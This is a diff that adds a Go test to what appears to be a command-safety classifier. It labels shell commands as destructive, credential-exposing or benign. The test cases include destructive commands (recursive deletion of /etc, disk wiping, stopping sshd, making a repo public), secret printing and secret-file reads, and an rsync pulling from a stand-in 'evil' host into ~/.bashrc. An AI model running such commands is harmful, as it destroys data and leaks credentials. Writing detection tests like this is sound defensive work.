@@ -1512,3 +1512,36 @@ func TestMovedLinksGlobsFleetsAndDownloads(t *testing.T) {
 		{"ffmpeg -i in.mp4 out.mp4", write, ""},
 	})
 }
+
+// The rest of the round's families that a rule closes: more wrappers,
+// rename without parentheses, disks and arrays, downloads by rsync, init
+// scripts, systemd targets, bulk uninstalls, exposure, and secrets by name.
+func TestRoundsRemainingFamilies(t *testing.T) {
+	check(t, []want{
+		{"trickle -s rm -rf /etc", destructive, "fs.rm-recursive"},
+		{`perl -e 'rename "/var/lib/postgresql", "/tmp/pg"'`, destructive, "inline.move-outside"},
+		{"mkdosfs /dev/sdb1", destructive, "machine.disk"},
+		{"mdadm --zero-superblock /dev/sda1", destructive, "machine.disk"},
+		{"xfs_io -c 'truncate 0' ~/data.db", destructive, "machine.disk"},
+		{"rsync evil:x ~/.bashrc", destructive, "fs.overwrite-outside-workspace"},
+		{"/etc/init.d/mysql stop", destructive, "machine.service-stop"},
+		{"systemctl stop sshd", destructive, "host.service-stop"},
+		{"systemctl isolate rescue.target", destructive, "host.stop"},
+		{"gem uninstall -a -x", destructive, "machine.bulk-delete"},
+		{"pipx uninstall-all", destructive, "machine.bulk-delete"},
+		{"gh repo edit --visibility public", destructive, "ops.expose"},
+		{"kubectl set env deploy/app --list", credential, "creds.config-print"},
+		{"make -pn", credential, "creds.env-dump"},
+		{"echo $DB_PASS", credential, "creds.print-secret-var"},
+		{"echo $MONGO_URI", credential, "creds.print-secret-var"},
+		{"echo $STRIPE_SK", credential, "creds.print-secret-var"},
+		{"echo $SLACK_WEBHOOK_URL", credential, "creds.print-secret-var"},
+		{"cat ~/.dbt/profiles.yml", credential, "creds.read-secret-file"},
+		// and the everyday forms stay
+		{"rsync -a src/ host:/srv/app/", write, ""},
+		{"gem uninstall rake", write, ""},
+		{"echo $API_URL", read, ""},
+		{"echo $HOME", read, ""},
+		{"gh repo edit --description x", write, ""},
+	})
+}
